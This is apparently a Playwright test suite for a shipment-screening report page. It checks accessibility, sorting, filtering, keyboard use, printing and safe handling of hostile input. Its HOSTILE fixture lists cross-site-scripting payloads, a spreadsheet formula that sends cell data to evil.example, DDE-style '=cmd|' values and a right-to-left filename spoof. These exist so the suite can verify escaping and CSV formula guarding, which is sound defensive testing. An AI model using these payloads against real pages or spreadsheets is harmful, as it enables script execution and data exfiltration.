"""The page as a reader meets it: in Chromium, with every host blocked."""

import csv
import io
import re

import pytest
from axe_playwright_python.sync_playwright import Axe

from detector.parties import resolve, screen
from detector.report.page import STATIC_ROWS
from tests.parties.lists import watchlist
from tests.report import scans

pytestmark = pytest.mark.browser

HOSTILE = (
    '</script><img src=x onerror="window.ran=1">',
    "<b onmouseover=window.ran=1>bold</b>",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "\u202egnp.exe\u202c reversed",
    "A" * 10_000,
    "line\u2028break \u2029 {{ 7*7 }} ${window.ran=1}",
    "'\"><svg onload=window.ran=1>",
)


def ordinary(con):
    scans.shipments(con, 1_500)
    scans.scan(con, 60)


def hostile(con):
    ids = [f"=cmd|{number}" for number in range(len(HOSTILE))]
    scans.shipments(
        con, 60, exporter=HOSTILE, consignee=HOSTILE[::-1], description=HOSTILE,
        exporter_country=["<i"], shipment_id=ids,
    )  # fmt: skip
    con.execute("update shipment_versions set source = $name", {"name": HOSTILE[0]})
    con.execute("update files set name = $name, layout = $name", {"name": HOSTILE[0]})
    con.execute("update rejects set reason = $name, file = $name", {"name": HOSTILE[0]})
    con.execute("alter table goods add column is_restricted boolean default true")
    watchlist(con, *({"name": name, "programme": name} for name in HOSTILE))
    resolve(con, scans.AS_OF)
    assert screen(con, scans.AS_OF)
    scans.scan(con, 60)
    con.execute("update reasons set text = $name || text, innocent = $name", {"name": HOSTILE[0]})
    con.execute("update cases set title = $name", {"name": HOSTILE[6]})


def quiet(con):
    scans.shipments(con, 40)
    con.execute("delete from rejects")
    scans.scan(con, 0)


def no_computing_goods(con):
    scans.shipments(con, 300, description=[None] * 300, hs_code=["610910"] * 300)
    con.execute("update goods set goods_class = 'other', units = null")
    con.execute("update ledger set goods_class = 'other', units = null, hs4 = '6109'")
    scans.scan(con, 20, computing=False)


WORLDS = {
    "ordinary": ordinary,
    "hostile": hostile,
    "quiet": quiet,
    "no_computing_goods": no_computing_goods,
}
each_world = pytest.mark.parametrize("world", WORLDS)


@pytest.fixture
def visit(browser, page_of):
    """Open a world's page; collect what it asks for, says and does wrong."""
    opened = []

    def go(world, place="", **context):
        wanted = {"viewport": {"width": 1280, "height": 900}, "color_scheme": "light"} | context
        context = browser.new_context(**wanted)
        page = context.new_page()
        page.trouble = []
        page.on("console", lambda told: page.trouble.append(f"console: {told.text}"))
        page.on("pageerror", lambda error: page.trouble.append(f"error: {error}"))
        page.on("request", lambda asked: page.trouble.append(f"request: {asked.url[:80]}"))
        page.goto(page_of(world, WORLDS[world]).as_uri() + place)
        page.trouble = [told for told in page.trouble if not told.startswith("request: file:")]
        opened.append(context)
        return page

    yield go
    for context in opened:
        context.close()


def ranks(page):
    return [int(text) for text in page.locator("#rows .c-rank").all_inner_texts()]


@each_world
def test_the_page_asks_the_network_for_nothing_and_reports_no_error(visit, world):
    page = visit(world)
    for entry in page.locator("#rows summary").all()[:3]:
        entry.click()
    page.wait_for_timeout(200)
    assert page.trouble == []


@each_world
def test_axe_finds_nothing_in_light_and_dark_and_nothing_scrolls_sideways(visit, world):
    page = visit(world, bypass_csp=True)
    for entry in page.locator("#rows summary").all()[:3]:
        entry.click()
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        found = Axe().run(page)
        assert found.violations_count == 0, found.generate_report()
    page.set_viewport_size({"width": 320, "height": 900})
    page.evaluate("for (const part of document.querySelectorAll('.twin')) part.open = true")
    assert page.evaluate("document.documentElement.scrollWidth") <= 320


def test_hostile_text_stays_text(visit):
    page = visit("hostile")
    page.evaluate("for (const part of document.querySelectorAll('details')) part.open = true")
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") is None
    assert page.locator("main img").count() == 0
    assert page.locator("#rows b", has_text="bold").count() == 0
    assert "</script><img" in page.locator("#rows").inner_text()
    page.locator("#q").fill("AAAA")
    page.locator("#count", has_text=" of 60").wait_for()
    assert len(page.locator("#rows .c-parties", has_text="AAAA").first.inner_text()) < 300
    assert page.trouble == []


def test_the_charts_are_drawn_and_each_has_a_table(visit):
    page = visit("ordinary")
    for name in ("chart-trend", "chart-lanes", "chart-signals"):
        assert page.locator(f"#{name} .bars .point").count() > 0
        assert page.locator(f"#{name} + details table tbody tr").count() > 0


def test_a_heading_sorts_the_queue_both_ways(visit):
    page = visit("ordinary")
    head = page.locator("#table [data-key=value]")
    head.get_by_role("button").click()
    values = [
        int(text.replace(",", "")) for text in page.locator("#rows .c-value").all_inner_texts()
    ]
    assert values == sorted(values, reverse=True)
    assert head.get_attribute("aria-sort") == "descending"
    head.get_by_role("button").click()
    assert head.get_attribute("aria-sort") == "ascending"
    assert ranks(page) != sorted(ranks(page))


def test_searching_and_filtering_leave_what_fits_and_say_how_many(visit):
    page = visit("ordinary")
    page.locator("#q").fill("Malaysia")
    page.locator("#count", has_text=" of 60").wait_for()
    lanes = page.locator("#rows .c-lane").all_inner_texts()
    assert lanes
    assert all("MY" in lane for lane in lanes)
    told = re.match(r"(\d+) of 60 shipments", page.locator("#count").inner_text())
    assert told
    page.get_by_label("Kind of reason").select_option("timing")
    assert int(page.locator("#count").inner_text().split()[0]) < int(told[1])
    page.locator("#q").fill("no such party anywhere")
    page.get_by_text("No shipment fits").wait_for()


def test_filters_stand_in_the_address_and_come_back(visit):
    page = visit("ordinary", place="#queue?place=HK&sort=value&down=1")
    assert page.locator("#place").input_value() == "HK"
    assert all("HK" in lane for lane in page.locator("#rows .c-lane").all_inner_texts())


def test_the_queue_turns_its_pages(visit):
    page = visit("ordinary")
    assert ranks(page) == list(range(1, 26))
    page.get_by_role("button", name="Next").click()
    assert ranks(page) == list(range(26, 51))
    assert page.get_by_role("button", name="Previous").is_enabled()


def test_the_queue_is_worked_by_keyboard_alone_and_the_keys_can_be_turned_off(visit):
    page = visit("ordinary")
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    second = page.locator("#rows .entry").nth(1)
    assert second.locator("details").get_attribute("open") is not None
    assert "of the score" in second.inner_text()
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "q"
    page.locator(".keys summary").click()
    page.get_by_label("Use these keys").uncheck()
    page.locator("h1").click()
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") != "q"


def test_a_saved_csv_guards_against_formulas(visit):
    page = visit("hostile")
    with page.expect_download() as waiting:
        page.get_by_role("button", name="Save as CSV").click()
    text = waiting.value.path().read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 60
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "-")]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_without_script_the_brief_the_first_rows_and_the_cases_are_there(visit):
    page = visit("ordinary", java_script_enabled=False)
    assert page.locator("#rows .entry").count() == STATIC_ROWS
    assert page.locator("#tools").is_hidden()
    assert page.locator(".case").count() > 3
    assert "flagged for review" in page.locator(".lead").inner_text()


def test_rows_look_the_same_with_and_without_script(visit):
    plain = visit("ordinary", java_script_enabled=False).locator("#rows .entry")
    drawn = visit("ordinary").locator("#rows .entry")
    for place in (0, 7, 24):
        assert drawn.nth(place).inner_text() == plain.nth(place).inner_text()
    drawn.nth(7).locator("summary").click()
    plain.nth(7).locator("summary").click()
    assert drawn.nth(7).inner_text() == plain.nth(7).inner_text()


def test_a_link_to_a_case_opens_it(visit):
    page = visit("ordinary")
    name = page.locator(".case:not([open])").last.get_attribute("id")
    page.goto(page.url.split("#")[0] + f"#{name}")
    assert page.locator(f"#{name}").get_attribute("open") is not None


def test_printing_from_the_dark_uses_dark_ink(visit):
    page = visit("ordinary", color_scheme="dark")
    page.emulate_media(media="print", color_scheme="dark")
    page.wait_for_timeout(150)
    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(0, 0, 0)"
    fill = page.locator("#chart-lanes .bars .point path").first.evaluate(
        "path => getComputedStyle(path).fill"
    )
    assert fill == "rgb(28, 93, 140)"


def test_in_print_the_title_of_a_case_has_the_whole_width(visit):
    page = visit("ordinary", viewport={"width": 1000, "height": 1000})
    page.emulate_media(media="print")
    top = "part => part.getBoundingClientRect().top"
    case = page.locator(".case > summary").first
    assert case.locator(".pills").evaluate(top) > case.locator("h3").evaluate(top) + 8


def test_empty_weeks_say_so(visit):
    page = visit("quiet")
    assert "There is nothing to review" in page.locator("#queue").inner_text()
    assert "None of the 40 lines scored is flagged" in page.locator(".lead").inner_text()
    assert "Every line and every cell was read" in page.locator("#health").inner_text()


def test_records_without_computing_goods_are_reported_by_their_heading(visit):
    page = visit("no_computing_goods")
    assert "HS 610910" in page.locator("#rows").inner_text()
    assert "under HS 6109" in page.locator("#cases").inner_text()
    assert "accelerators," not in page.locator(".lead").inner_text()
